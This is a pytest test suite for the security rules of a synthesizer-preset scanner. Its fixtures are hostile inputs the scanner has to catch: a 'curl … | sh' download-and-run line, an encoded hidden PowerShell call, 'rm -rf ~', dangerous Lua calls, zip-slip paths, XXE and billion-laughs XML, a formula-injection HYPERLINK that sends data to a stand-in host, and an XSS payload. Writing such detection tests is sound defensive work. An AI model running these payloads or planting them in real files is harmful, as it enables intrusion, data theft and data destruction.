"""Each security rule: a positive and a negative fixture, on synthetic documents.

Documents are built by hand (raw JSON, XML elements, blobs, scripts, texts) so the rules are
tested against the loader conventions of formats/base.py, independently of any loader.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import zipfile
from pathlib import PurePosixPath
from typing import Any
from xml.etree.ElementTree import Element, SubElement

import pytest
from hostile import ELF, LUA_BYTECODE, PE, billion_laughs_bytes, xxe_bytes

from presetctl.engine.formats.base import Blob, Document, DocumentFacts, Script
from presetctl.engine.model import Location, Violation
from presetctl.engine.options import Limits, Options
from presetctl.engine.rules.base import Level, RuleContext
from presetctl.engine.rules.registry import RULES

SECURITY = tuple(r for r in RULES if r.level is Level.SECURITY and r.check is not None)
SCAN_OPTIONS = Options(levels=frozenset({"security", "file", "parse"}))


def scan(doc: Document, path: str = "pack/Preset.json", options: Options = SCAN_OPTIONS) -> list[Violation]:
    ctx = RuleContext(PurePosixPath(path), options)
    out: list[Violation] = []
    for rule in SECURITY:
        for v in rule.check(doc, ctx):  # type: ignore[misc]
            out.append(v if v.code else Violation(v.message, v.location, rule.code, v.hint, v.data))
    return out


def codes(doc: Document, path: str = "pack/Preset.json", options: Options = SCAN_OPTIONS) -> list[str]:
    return sorted(v.code for v in scan(doc, path, options))


def jdoc(raw: Any, fmt: str = "presetctl", **extra: Any) -> Document:
    return Document(fmt, json.dumps(raw).encode(), raw=raw, text=True, facts=DocumentFacts(locator="json", **extra))


CLEAN = {"metadata": {"name": "Warm Pad", "author": "Alice", "comments": "Mod wheel opens the filter.",
                      "tags": ["pad", "warm"]},
         "assets": [{"kind": "sample", "path": "Samples/pad.wav"}], "parameters": [{"name": "cutoff", "value": 0.5}]}


def test_clean_document_has_no_findings() -> None:
    assert codes(jdoc(CLEAN)) == []


# -- paths and personal data ----------------------------------------------------------------------
@pytest.mark.parametrize(("value", "expected"), [
    ("../../etc/passwd", ["X001"]),
    ("..\\..\\Windows\\win.ini", ["X001"]),
    ("Samples/../../x.wav", ["X001"]),
    ("/etc/passwd", ["X002"]),
    ("C:\\Program Files\\x.wav", ["X002"]),
    ("\\\\attacker.example\\share\\a.wav", ["X003"]),
    ("//attacker.example/share/a.wav", ["X003"]),
    ("https://example.com/a.wav", ["X004"]),
    ("smb://host/share/a.wav", ["X004"]),
    ("file:///etc/passwd", ["X004"]),
    ("C:\\Users\\alice\\Samples\\a.wav", ["X002", "X006"]),
    ("Samples/pad.wav", []),
    ("pad..wav", []),
])
def test_path_fields(value: str, expected: list[str]) -> None:
    assert codes(jdoc({"assets": [{"path": value}]})) == expected


def test_paths_in_xml_attributes() -> None:
    root = Element("Ableton")
    SubElement(root, "FileRef", {"Path": "D:/Users/Rob/Samples/kick.wav", "Name": "kick.wav"})
    assert codes(Document("ableton", b"", raw=root)) == ["X002", "X006"]


def test_path_shaped_value_outside_a_path_field() -> None:
    assert codes(jdoc({"metadata": {"comments": "/Users/bob/Desktop/a.wav"}})) == ["X002", "X006"]
    # prose mentioning a slash is not a path
    assert codes(jdoc({"metadata": {"comments": "Use mod wheel / aftertouch"}})) == []


def test_url_low_and_licence_deeds_exempt() -> None:
    assert codes(jdoc({"metadata": {"comments": "more at https://example.com/packs"}})) == ["X005"]
    assert codes(jdoc({"license": "http://creativecommons.org/licenses/by/4.0/"})) == []


def test_file_uri_anywhere() -> None:
    assert codes(jdoc({"metadata": {"comments": "see file:///home/x/readme"}})) == ["X004", "X006"]


def test_user_path_in_base64_tuning_is_found_but_not_in_raw_base64_noise() -> None:
    scl = b"! C:\\Users\\green\\Music\\VST\\Scales\\19edo.scl\r\n!\r\nDisquiet Scale\r\n 18\r\n"
    root = Element("patch")
    SubElement(root, "patchTuning", {"v": base64.b64encode(scl).decode()})
    found = scan(Document("surge-fxp", b"", raw=root))
    assert [v.code for v in found] == ["X006"]
    assert "'green'" in found[0].message and found[0].location.pointer == "/patch/patchTuning/@v"
    # Base64 text that happens to contain "/Users/x" (wavetable noise) is not a path.
    noise = "AAAA/Users/abcd" + "A" * 48 + "="
    assert len(noise) % 4 == 0
    assert codes(jdoc({"wave_data": noise})) == []


def test_user_path_in_loader_blob() -> None:
    blob = Blob(Location(pointer="/tuning"), "tuning", lambda: b"! /home/carol/scales/x.scl\n")
    assert codes(jdoc({}, blobs=(blob,))) == ["X006"]
    generic = Blob(Location(pointer="/tuning"), "tuning", lambda: b"! C:\\Users\\Public\\x.scl\n")
    assert codes(jdoc({}, blobs=(generic,))) == []


def test_email() -> None:
    assert codes(jdoc({"metadata": {"author": "alice@example.com"}})) == ["X007"]
    assert codes(jdoc({"metadata": {"author": "@alice on forums"}})) == []


# -- payloads ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("payload", [PE + bytes(100), ELF, b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(32),
                                     b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + bytes(32)])
def test_executable_in_base64(payload: bytes) -> None:
    doc = jdoc({"wave_data": base64.b64encode(bytes(16) + payload + bytes(64)).decode()})
    assert codes(doc) == ["X010"]


def test_executable_signature_noise_is_not_reported() -> None:
    noise = (b"MZ" + bytes(70)) * 50 + b"\x7fELF\x09\x09" + b"\xca\xfe\xba\xbe\x00\x00\x99\x99"
    assert codes(jdoc({"wave_data": base64.b64encode(noise).decode()})) == []


def test_executable_in_blob_and_in_file_bytes() -> None:
    blob = Blob(Location(pointer="/sample"), "sample", lambda: bytes(10) + PE)
    assert codes(jdoc({}, blobs=(blob,))) == ["X010"]
    assert "X010" in codes(Document("fxp", b"CcnK" + bytes(100) + PE, parsed=False), "pack/a.fxp")


@pytest.mark.parametrize("text", [
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4A", "cmd.exe /c calc", "cmd /c del x",
    'CreateObject("WScript.Shell").Run "x"', "curl -s http://x.example/a | sh", "bash -c 'id'",
])
def test_script_payloads(text: str) -> None:
    assert "X011" in codes(jdoc({"metadata": {"comments": text}}))


def test_script_payload_negative_and_shebang_blob() -> None:
    assert codes(jdoc({"metadata": {"comments": "The cmd key changes the script of the arp"}})) == []
    blob = Blob(Location(pointer="/x"), "sample", lambda: b"#!/bin/sh\nrm -rf ~\n")
    assert codes(jdoc({}, blobs=(blob,))) == ["X011"]


# -- Lua ----------------------------------------------------------------------------------------------
def _lua_doc(source: bytes, language: str = "lua") -> Document:
    return Document("surge-fxp", b"", raw=Element("patch"),
                    facts=DocumentFacts(scripts=(Script(Location(pointer="/patch/formulae/formula"), language, source),)))


def test_lua_present_is_info_only() -> None:
    found = scan(_lua_doc(b"function process(state)\n  state.output = math.sin(state.phase)\n  return state\nend\n"))
    assert [v.code for v in found] == ["X020"]


@pytest.mark.parametrize("source", [b'os.execute("id")', b'local f = io.open("/etc/passwd")', b'require("socket")',
                                    b'load("return 1")()', b'loadstring(x)', b'dofile("/tmp/x")', b'debug.getinfo(1)',
                                    b'package.loadlib("x", "y")', b'ffi.C.system("id")', b'string.dump(f)',
                                    b'_G["o".."s"].exit()', b'local d = ("").dump'])
def test_lua_dangerous(source: bytes) -> None:
    assert codes(_lua_doc(b"function process(state)\n" + source + b"\nend\n")) == ["X020", "X021"]


def test_lua_dangerous_names_in_comments_and_strings_do_not_count() -> None:
    src = b'-- os.execute is not allowed\nlocal label = "io.open"\n--[[ require("x") ]]\nstate.cos = math.cos(1)\n'
    assert codes(_lua_doc(src)) == ["X020"]


def test_lua_bytecode_and_surge_xml_fallback() -> None:
    assert codes(_lua_doc(LUA_BYTECODE, "lua-bytecode")) == ["X020", "X022"]
    root = Element("patch")
    formulae = SubElement(root, "formulae")
    SubElement(formulae, "formula", {"i": "0", "formula": base64.b64encode(b'os.remove("x")').decode()})
    assert codes(Document("surge-fxp", b"", raw=root)) == ["X020", "X021"]
    assert codes(Document("surge-fxp", b"", raw=Element("patch"))) == []


# -- archives ----------------------------------------------------------------------------------------
def _zip(*members: tuple[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


def test_zip_slip_and_clean_zip() -> None:
    assert codes(Document("vitalbank", _zip(("a/../../x", b"1"))), "pack/b.vitalbank") == ["X030"]
    assert codes(Document("vitalbank", _zip(("C:\\x", b"1"))), "pack/b.vitalbank") == ["X030"]
    assert codes(Document("vitalbank", _zip(("Presets/Pad.vital", b"{}"))), "pack/b.vitalbank") == []


def test_nested_archive_is_reported_and_scanned() -> None:
    inner = _zip(("x.exe", PE))
    assert codes(Document("vitalbank", _zip(("more.zip", inner))), "pack/b.vitalbank") == ["X010", "X034"]


def test_gzip_in_base64_is_unpacked() -> None:
    doc = jdoc({"data": base64.b64encode(gzip.compress(b"! /home/dave/x.scl\n")).decode()})
    assert codes(doc) == ["X006"]


# -- XML ------------------------------------------------------------------------------------------------
def test_xml_rules() -> None:
    assert codes(Document("surge-fxp", billion_laughs_bytes()), "p/a.fxp") == ["X040", "X041"]
    assert codes(Document("surge-fxp", xxe_bytes()), "p/a.fxp") == ["X040", "X042", "X042"]
    external_dtd = b'<?xml version="1.0"?><!DOCTYPE patch SYSTEM "http://x.example/p.dtd"><patch/>'
    assert codes(Document("surge-fxp", external_dtd), "p/a.fxp") == ["X042"]
    # what the loader could not parse is carried as X072 in a restricted (scan-security) run
    assert codes(Document("surge-fxp", external_dtd, parsed=False), "p/a.fxp") == ["X042", "X072"]
    # ZynAddSubFX writes a bare DOCTYPE: nothing is declared, nothing reported
    bare = b'<?xml version="1.0"?>\n<!DOCTYPE ZynAddSubFX-data>\n<ZynAddSubFX-data/>'
    assert codes(Document("zyn-xiz", gzip.compress(bare)), "p/a.xiz") == []


def test_xml_inside_gzip() -> None:
    # decoded XML is also text: its file: URI and URL are reported as such
    found = codes(Document("zyn-xiz", gzip.compress(xxe_bytes())), "p/a.xiz")
    assert found == ["X004", "X005", "X040", "X042", "X042"]


# -- document shape ---------------------------------------------------------------------------------------
def test_shape_rules() -> None:
    deep: Any = 1
    for _ in range(70):
        deep = [deep]
    assert codes(jdoc(deep)) == ["X050"]
    assert codes(jdoc({"a": 1e300, "b": 2**60, "c": float("nan"), "d": 0.5, "e": 3})) == ["X051", "X051", "X051"]
    small = Options(levels=SCAN_OPTIONS.levels, limits=Limits(max_string=10))
    assert codes(jdoc({"name": "x" * 11}), options=small) == ["X052"]
    assert codes(jdoc({"name": "x" * 10}), options=small) == []


# -- text -------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(("name", "expected"), [
    ("Bass\u202egpj.exe", ["X060"]),
    ("Lead\u200b", ["X061"]),
    ("B\u0430ss", ["X062"]),  # Cyrillic a
    ("Pad\x1b[2J", ["X063"]),
    ("Pad\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\", ["X005", "X063"]),
    ("Pad\x9b31m", ["X063"]),
    ("<img src=x onerror=alert(1)>", ["X064"]),
    ('=HYPERLINK("http://x.example/?"&A1)', ["X005", "X065"]),
    ("-cmd|' /C calc'!A0", ["X065"]),
    ("Пэд Pad", []),  # two scripts in two words is fine
    ("Café 😀 Pad", []),
    ("-12 dB +3", []),
])
def test_text_rules(name: str, expected: list[str]) -> None:
    assert codes(jdoc({"metadata": {"name": name}})) == expected


def test_file_name_is_scanned_like_text() -> None:
    assert codes(jdoc({}), path="pack/Bass\u202egpj.exe.json") == ["X060"]
    assert codes(jdoc({}), path="pack/\x1b[31mRed.json") == ["X063"]


def test_escape_in_binary_format_texts() -> None:
    doc = Document("dx7-syx", b"\xf0", raw=None, facts=DocumentFacts(texts=((Location(voice=1), "\x1b]52;c;eA==\x07"),)))
    assert codes(doc, "p/a.syx") == ["X061", "X063"]


# -- files --------------------------------------------------------------------------------------------------
def test_disguised_file() -> None:
    assert codes(Document("vital", b"PK\x05\x06" + bytes(18), parsed=False), "p/Pad.vital") == ["X070", "X072"]
    assert codes(Document("vitalbank", b"PK\x05\x06" + bytes(18)), "p/Bank.vitalbank") == []
    assert codes(Document("vital", b'{"preset_name": "x"}'), "p/Pad.vital") == []


def test_loader_problems_carried_only_in_restricted_runs() -> None:
    doc = Document("dx7-syx", b"\xf0", parsed=False,
                   problems=(Violation("checksum 0x12 does not match 0x34", Location(offset=4102), "D003"),))
    found = scan(doc, "p/a.syx")
    assert [v.code for v in found] == ["X072"] and "D003" in found[0].message
    assert codes(doc, "p/a.syx", Options()) == []  # validate reports D003 itself


def test_time_budget_hit_is_a_finding() -> None:
    tiny = Options(levels=SCAN_OPTIONS.levels, limits=Limits(file_seconds=1e-9))
    raw = {"items": [{"name": f"n{i}"} for i in range(20_000)]}
    found = codes(jdoc(raw), options=tiny)
    assert found.count("X071") == 1


def test_limit_hit_on_total_decoded_size() -> None:
    small = Options(levels=SCAN_OPTIONS.levels, limits=Limits(max_decompressed=1000))
    doc = jdoc({"a": base64.b64encode(bytes(3000)).decode()})
    assert codes(doc, options=small) == ["X071"]


def test_every_security_rule_is_documented_and_rated() -> None:
    sec = [r for r in RULES if r.level is Level.SECURITY]
    assert [r.code for r in sec] == sorted(r.code for r in sec)
    for r in sec:
        assert r.code.startswith("X") and r.doc.what and r.doc.why and r.doc.fix, r.code
        assert r.security is not None or r.code == "X020", r.code
        if r.security is not None:
            assert r.severity is r.security.severity, r.code
